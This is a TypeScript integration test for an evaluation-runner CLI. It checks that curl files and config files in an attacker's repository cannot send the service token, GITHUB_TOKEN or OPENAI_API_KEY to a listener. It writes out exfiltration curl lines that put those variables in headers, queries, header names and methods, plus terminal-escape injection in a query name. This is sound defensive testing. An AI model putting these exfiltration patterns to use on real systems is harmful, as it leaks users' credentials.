import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startSandbox } from '../../src/sandbox/server';
import type { Sandbox } from '../../src/sandbox/server';
import { cli } from '../unit/helpers/cli';
import type { CliResult } from '../unit/helpers/cli';
import { tempDir } from '../unit/helpers/runs';
import { json, scriptedServer } from '../unit/helpers/servers';
import type { ScriptedServer } from '../unit/helpers/servers';

const TOKEN = 'pat-ATTACKED-token-3f9e';
const SECRETS = {
  EVAL_RUNNER_TOKEN: TOKEN,
  GITHUB_TOKEN: 'ghp_ATTACKED_github_77aa',
  OPENAI_API_KEY: 'sk-ATTACKED-openai-51c0',
  MY_MODEL_KEY: 'mk-own-model-key-0b2d',
};

/**
 * A cloned repository plays the attacker: its curl files and config files name the service token, a CI token and a
 * provider's key for its own listener, which records every header and query it receives. Each is refused (exit 2)
 * before anything is sent; what users rely on (a curl file's own key, once allowed; keys named on the command line)
 * still runs.
 */
describe('an attacker\'s repository: files cannot send the environment\'s secrets anywhere', function () {
  this.timeout(120_000);
  let sandbox: Sandbox;
  let listener: ScriptedServer;
  let repo: string;
  let env: Record<string, string>;

  /** A file of the repository, by the name a user in it would type (the CLI runs in the repository). */
  const file = (name: string, text: unknown) => {
    writeFileSync(join(repo, name), typeof text === 'string' ? text : JSON.stringify(text, null, 2));
    return name;
  };
  const run = (args: string[]) =>
    cli(['run', '--base-url', sandbox.baseUrl, '--evaluation', '1', '--kind', 'benchmark', '--state-dir', tempDir(), '--fresh', ...args], env, undefined, undefined, repo);
  const curl = (header: string, query = '') =>
    `curl "${listener.url}/v1/chat/completions${query}" \\\n  -H "Content-Type: application/json" \\\n  -H "${header}" \\\n  -d '{"messages": [{"role": "user", "content": "{{prompt}}"}]}'`;
  const http = ['--target', 'http', '--answer-path', 'choices.0.message.content'];

  /** Refused with words naming the variable, and nothing reached the listener; no secret's value in the words. */
  function refused(r: CliResult, words: RegExp): void {
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, words);
    assert.equal(listener.seen.length, 0, `the listener received ${JSON.stringify(listener.seen.map((s) => [s.path, s.headers]))}`);
    for (const value of Object.values(SECRETS)) assert.ok(!`${r.stdout}${r.stderr}`.includes(value), 'a value in the output');
  }

  beforeEach(async () => {
    sandbox = await startSandbox({ port: 0, token: TOKEN, benchmarkTraces: 3, evaluationSeconds: 0, generationSeconds: 0 });
    listener = await scriptedServer((_req, res) => json(res, 200, { choices: [{ message: { content: 'answered' } }] }));
    repo = tempDir('eval-runner-attacker-repo-');
    // Approvals land in a folder of the test's own, never the user's.
    env = { ...SECRETS, XDG_CONFIG_HOME: tempDir() };
  });
  afterEach(async () => {
    await listener.close();
    await sandbox.close();
  });

  it('a curl file naming the service token is refused, even with --allow-env', async () => {
    const req = file('req.sh', curl('X-Leak: $EVAL_RUNNER_TOKEN'));
    refused(await run([...http, '--from-curl', req]), /--from-curl req\.sh names EVAL_RUNNER_TOKEN .*service's token, which goes to the service only/);
    refused(await run([...http, '--from-curl', req, '--allow-env', 'EVAL_RUNNER_TOKEN']), /EVAL_RUNNER_TOKEN holds the service's token/);
    // Windows reads variables whatever their case: the same name in lower case is the same token there.
    refused(await run([...http, '--from-curl', file('lower.sh', curl('X-Leak: $eval_runner_token'))]), /eval_runner_token holds the service's token/);
  });

  it('a curl file naming GITHUB_TOKEN, in a header or the query, needs --allow-env (no terminal here)', async () => {
    const words = /names the variable GITHUB_TOKEN, whose value it would send:\n {2}GITHUB_TOKEN → http:\/\/127\.0\.0\.1:\d+, in the header x-ci\n.*add --allow-env GITHUB_TOKEN=http:\/\/127\.0\.0\.1:\d+ to the command line if you trust this file\. Nothing was sent\./s;
    refused(await run([...http, '--from-curl', file('req.sh', curl('X-CI: $GITHUB_TOKEN'))]), words);
    refused(await run([...http, '--from-curl', file('query.sh', curl('X-Plain: 1', '?key=$GITHUB_TOKEN'))]), /GITHUB_TOKEN → http:\/\/127\.0\.0\.1:\d+, in the query \(key\)/);
    // Another variable allowed does not allow this one.
    refused(await run([...http, '--from-curl', file('req2.sh', curl('X-CI: $GITHUB_TOKEN')), '--allow-env', 'MY_MODEL_KEY']), /--allow-env GITHUB_TOKEN/);
  });

  it('a curl file hiding a variable where it would go unchecked is refused: Basic, a header name, the method, a query name', async () => {
    // `Authorization: Basic $VAR` holds the variable as written, not inside -u's encoding: it is found and refused.
    refused(await run([...http, '--from-curl', file('basic.sh', curl('Authorization: Basic $EVAL_RUNNER_TOKEN'))]), /names EVAL_RUNNER_TOKEN .*service's token/);
    refused(await run([...http, '--from-curl', file('basic2.sh', curl('Authorization: Basic $GITHUB_TOKEN'))]), /GITHUB_TOKEN → http:\/\/127\.0\.0\.1:\d+, in the header authorization/);
    const unchecked = /the variable (GITHUB_TOKEN|EVAL_RUNNER_TOKEN) is where its value cannot be checked/;
    refused(await run([...http, '--from-curl', file('name.sh', curl('$EVAL_RUNNER_TOKEN: 1')), '--allow-env', 'GITHUB_TOKEN']), unchecked);
    refused(await run([...http, '--from-curl', file('qname.sh', curl('X-Plain: 1', '?$GITHUB_TOKEN=1')), '--allow-env', 'GITHUB_TOKEN']), unchecked);
    const method = `curl -X "$GITHUB_TOKEN" "${listener.url}/v1" -H "Content-Type: application/json" -d '{"p": "{{prompt}}"}'`;
    refused(await run([...http, '--from-curl', file('method.sh', method), '--allow-env', 'GITHUB_TOKEN']), unchecked);
  });

  it('a file cannot redraw the question or the lines that say where a variable goes', async () => {
    // A query parameter's name with terminal escapes in it (erase the line, move the cursor).
    const r = await run([...http, '--from-curl', file('esc.sh', curl('X-Plain: 1', '?\u001b[2K\u001b[1Gx=$MY_MODEL_KEY')), '--allow-env', 'MY_MODEL_KEY']);
    assert.ok(!r.stderr.includes('\u001b'), `a raw ESC on stderr: ${JSON.stringify(r.stderr)}`);
  });

  it("a curl file sending OPENAI_API_KEY anywhere but api.openai.com is refused, even with --allow-env", async () => {
    const req = file('req.sh', curl('Authorization: Bearer $OPENAI_API_KEY'));
    refused(await run([...http, '--from-curl', req, '--allow-env', 'OPENAI_API_KEY']), /OPENAI_API_KEY is https:\/\/api\.openai\.com's key and goes there only, not to http:\/\/127\.0\.0\.1:\d+/);
  });

  it('a config file naming the service token (headerEnv, apiKeyEnv, a derived header variable) is refused', async () => {
    const target = { type: 'http', url: `${listener.url}/v1/chat/completions`, answerPath: 'choices.0.message.content' };
    const headerEnv = file('header.json', { target: { ...target, secretHeaders: ['X-T'], headerEnv: { 'X-T': 'EVAL_RUNNER_TOKEN' } } });
    refused(await run(['--config', headerEnv]), /--config .*header\.json names EVAL_RUNNER_TOKEN to send in the header X-T to http:\/\/127\.0\.0\.1:\d+: EVAL_RUNNER_TOKEN holds the service's token/);
    const derived = file('derived.json', { target: { ...target, secretHeaders: ['Eval-Runner-Token'] } });
    refused(await run(['--config', derived, '--allow-env', 'EVAL_RUNNER_TOKEN']), /names EVAL_RUNNER_TOKEN to send in the header Eval-Runner-Token/);
    const apiKey = file('key.json', { target: { type: 'openai', baseUrl: `${listener.url}/v1`, model: 'm', apiKeyEnv: 'EVAL_RUNNER_TOKEN' } });
    refused(await run(['--config', apiKey]), /names EVAL_RUNNER_TOKEN to send as the API key/);
  });

  it('a config file naming GITHUB_TOKEN (apiKeyEnv, or derived from a secret header) or OPENAI_API_KEY for itself is refused', async () => {
    const apiKey = file('key.json', { target: { type: 'openai', baseUrl: `${listener.url}/v1`, model: 'm', apiKeyEnv: 'GITHUB_TOKEN' } });
    refused(await run(['--config', apiKey]), /--config .*key\.json names the variable GITHUB_TOKEN.*GITHUB_TOKEN → http:\/\/127\.0\.0\.1:\d+, as the API key.*--allow-env GITHUB_TOKEN/s);
    const derived = file('derived.json', { target: { type: 'http', url: `${listener.url}/x`, answerPath: 'a', secretHeaders: ['Github-Token'] } });
    refused(await run(['--config', derived]), /GITHUB_TOKEN → http:\/\/127\.0\.0\.1:\d+, in the header Github-Token/);
    const openai = file('openai.json', { target: { type: 'openai', baseUrl: `${listener.url}/v1`, model: 'm', apiKeyEnv: 'OPENAI_API_KEY' } });
    refused(await run(['--config', openai, '--allow-env', 'OPENAI_API_KEY']), /OPENAI_API_KEY is https:\/\/api\.openai\.com's key and goes there only/);
  });

  it('flags on the command line cannot send the service token or a bound key elsewhere either', async () => {
    const openai = ['--target', 'openai', '--openai-base-url', `${listener.url}/v1`, '--model', 'm'];
    refused(await run([...openai, '--api-key-env', 'EVAL_RUNNER_TOKEN']), /--api-key-env names EVAL_RUNNER_TOKEN to send as the API key/);
    refused(await run([...openai, '--header-env', 'X-T=EVAL_RUNNER_TOKEN']), /--header-env names EVAL_RUNNER_TOKEN to send in the header X-T/);
    refused(await run([...openai, '--api-key-env', 'OPENAI_API_KEY']), /OPENAI_API_KEY is https:\/\/api\.openai\.com's key/);
  });

  it("a config file's baseUrl cannot steer the service token: run, prompts and submit stop before sending it", async () => {
    const steer = file('steer.json', { baseUrl: listener.url, evaluations: [{ evaluationId: 1, kind: 'benchmark' }], target: { type: 'echo' }, stateDir: tempDir() });
    const inRepo = (args: string[]) => cli(args, env, undefined, undefined, repo);
    const words = /--config steer\.json sets the service's base URL, where your token goes, to http:\/\/127\.0\.0\.1:\d+:\n {2}EVAL_RUNNER_TOKEN → http:\/\/127\.0\.0\.1:\d+, as the service token\n.*add --base-url with the service you mean, or --allow-env EVAL_RUNNER_TOKEN=http:\/\/127\.0\.0\.1:\d+ if you trust this file, to the command line\. Nothing was sent\./s;
    refused(await inRepo(['run', '--config', steer]), words);
    refused(await inRepo(['prompts', '--config', steer]), words);
    refused(await inRepo(['submit', '--config', steer, '--trace', 'bench-0000', '--answer', 'a']), words);
    // Another variable allowed does not allow the token's destination; nor does a file that names loopback.
    refused(await inRepo(['run', '--config', steer, '--allow-env', 'MY_MODEL_KEY']), /--allow-env EVAL_RUNNER_TOKEN/);

    // --base-url on the command line is the user's: the file's is not used, and the listener still saw nothing.
    const own = await inRepo(['run', '--config', steer, '--base-url', sandbox.baseUrl]);
    assert.equal(own.code, 0, own.stderr);
    const prompts = await inRepo(['prompts', '--config', steer, '--base-url', sandbox.baseUrl]);
    assert.equal(prompts.code, 0, prompts.stderr);
    assert.equal(listener.seen.length, 0);

    // A file naming the real service runs once --allow-env EVAL_RUNNER_TOKEN allows it, saying where the token goes.
    const service = file('service.json', { baseUrl: sandbox.baseUrl, evaluations: [{ evaluationId: 1, kind: 'benchmark' }], target: { type: 'echo' }, stateDir: tempDir() });
    for (const args of [['run', '--fresh'], ['prompts'], ['submit', '--trace', 'bench-0000', '--answer', 'a']]) {
      const allowed = await inRepo([args[0]!, '--config', service, '--allow-env', 'EVAL_RUNNER_TOKEN', ...args.slice(1)]);
      assert.equal(allowed.code, 0, `${args[0]}: ${allowed.stderr}`);
      assert.match(allowed.stderr, /^EVAL_RUNNER_TOKEN → http:\/\/127\.0\.0\.1:\d+, as the service token$/m);
    }
    // The token is never a target's secret, even so.
    const headerEnv = file('leak.json', { baseUrl: sandbox.baseUrl, target: { type: 'http', url: `${listener.url}/x`, answerPath: 'a', secretHeaders: ['X-T'], headerEnv: { 'X-T': 'EVAL_RUNNER_TOKEN' } } });
    refused(await inRepo(['run', '--config', headerEnv, '--evaluation', '1', '--kind', 'benchmark', '--allow-env', 'EVAL_RUNNER_TOKEN']), /EVAL_RUNNER_TOKEN holds the service's token/);
  });

  it('a key named on the command line goes where a file points only once allowed for that origin: refused in CI', async () => {
    const key = file('key.json', { target: { type: 'openai', baseUrl: `${listener.url}/v1`, model: 'm' } });
    const header = file('header.json', { target: { type: 'http', url: `${listener.url}/x`, answerPath: 'choices.0.message.content' } });
    const ask = /--allow-env MY_MODEL_KEY=http:\/\/127\.0\.0\.1:\d+ to the command line if you trust this file\. Nothing was sent\./;
    const apiKey = await run(['--config', key, '--api-key-env', 'MY_MODEL_KEY']);
    refused(apiKey, /--config key\.json chooses the origin that MY_MODEL_KEY \(named on the command line\) is sent to:\n {2}MY_MODEL_KEY → http:\/\/127\.0\.0\.1:\d+, as the API key\n/);
    assert.match(apiKey.stderr, ask);
    refused(await run(['--config', header, '--header-env', 'X-Key=MY_MODEL_KEY']), /MY_MODEL_KEY → http:\/\/127\.0\.0\.1:\d+, in the header X-Key\n.*--allow-env MY_MODEL_KEY=http/s);
    // Allowed for another origin: refused, naming both, whatever the file's content.
    const other = /--allow-env allows MY_MODEL_KEY to go to https:\/\/other\.example only, but --config key\.json would send it to http:\/\/127\.0\.0\.1:\d+\. Nothing was sent\./;
    refused(await run(['--config', key, '--api-key-env', 'MY_MODEL_KEY', '--allow-env', 'MY_MODEL_KEY=https://other.example']), other);
    // A curl file chooses the origin of the command line's variables too, and its own variables' pinned origin holds.
    const req = file('req.sh', curl('Authorization: Bearer $MY_MODEL_KEY'));
    refused(await run([...http, '--from-curl', req, '--allow-env', 'MY_MODEL_KEY=other.example']), /to go to https:\/\/other\.example only, but --from-curl req\.sh would send it to http:\/\/127\.0\.0\.1:\d+\./);
    const plain = file('plain.sh', curl('X-Plain: 1'));
    refused(await run([...http, '--from-curl', plain, '--header-env', 'X-Key=MY_MODEL_KEY']), /--from-curl plain\.sh chooses the origin that MY_MODEL_KEY \(named on the command line\) is sent to/);
  });

  it('runs with --allow-env NAME=the origin the file names, or when the command line gives the endpoint too', async () => {
    const key = file('key.json', { target: { type: 'openai', baseUrl: `${listener.url}/v1`, model: 'm' } });
    const origin = new URL(listener.url).origin;
    const allowed = await run(['--config', key, '--api-key-env', 'MY_MODEL_KEY', '--allow-env', `MY_MODEL_KEY=${origin}`]);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.match(allowed.stderr, /^MY_MODEL_KEY → http:\/\/127\.0\.0\.1:\d+, as the API key$/m);
    assert.equal(listener.seen[listener.seen.length - 1]!.headers.authorization, `Bearer ${SECRETS.MY_MODEL_KEY}`);
    const header = file('header.json', { target: { type: 'http', url: `${listener.url}/x`, answerPath: 'choices.0.message.content' } });
    const pinned = await run(['--config', header, '--header-env', 'X-Key=MY_MODEL_KEY', '--allow-env', `MY_MODEL_KEY=${origin}`]);
    assert.equal(pinned.code, 0, pinned.stderr);
    assert.equal(listener.seen[listener.seen.length - 1]!.headers['x-key'], SECRETS.MY_MODEL_KEY);
    const own = await run(['--config', key, '--openai-base-url', `${listener.url}/v1`, '--api-key-env', 'MY_MODEL_KEY']);
    assert.equal(own.code, 0, own.stderr);
    const curlOwn = await run([...http, '--from-curl', file('req.sh', curl('Authorization: Bearer $MY_MODEL_KEY')), '--allow-env', `MY_MODEL_KEY=${origin}`]);
    assert.equal(curlOwn.code, 0, curlOwn.stderr);
  });

  it("still runs a curl file reading its own origin's key once allowed, and keys named on the command line, saying where each goes", async () => {
    const req = file('req.sh', curl('Authorization: Bearer $MY_MODEL_KEY'));
    const allowed = await run([...http, '--from-curl', req, '--allow-env', 'MY_MODEL_KEY']);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.match(allowed.stderr, /^MY_MODEL_KEY → http:\/\/127\.0\.0\.1:\d+, in the header authorization$/m);
    assert.deepEqual(new Set(listener.seen.map((s) => s.headers.authorization)), new Set([`Bearer ${SECRETS.MY_MODEL_KEY}`]));
    const flags = await run(['--target', 'openai', '--openai-base-url', `${listener.url}/v1`, '--model', 'm', '--api-key-env', 'MY_MODEL_KEY', '--header-env', 'X-Team=GITHUB_TOKEN']);
    assert.equal(flags.code, 0, flags.stderr);
    assert.match(flags.stderr, /^MY_MODEL_KEY → http:\/\/127\.0\.0\.1:\d+, as the API key\nGITHUB_TOKEN → http:\/\/127\.0\.0\.1:\d+, in the header X-Team$/m);
    const last = listener.seen[listener.seen.length - 1]!;
    assert.equal(last.headers.authorization, `Bearer ${SECRETS.MY_MODEL_KEY}`);
    assert.equal(last.headers['x-team'], SECRETS.GITHUB_TOKEN);
    const http2 = await run([...http, '--http-url', `${listener.url}/x`, '--header-env', 'X-Key=MY_MODEL_KEY']);
    assert.equal(http2.code, 0, http2.stderr);
    assert.equal(listener.seen[listener.seen.length - 1]!.headers['x-key'], SECRETS.MY_MODEL_KEY);
  });
});
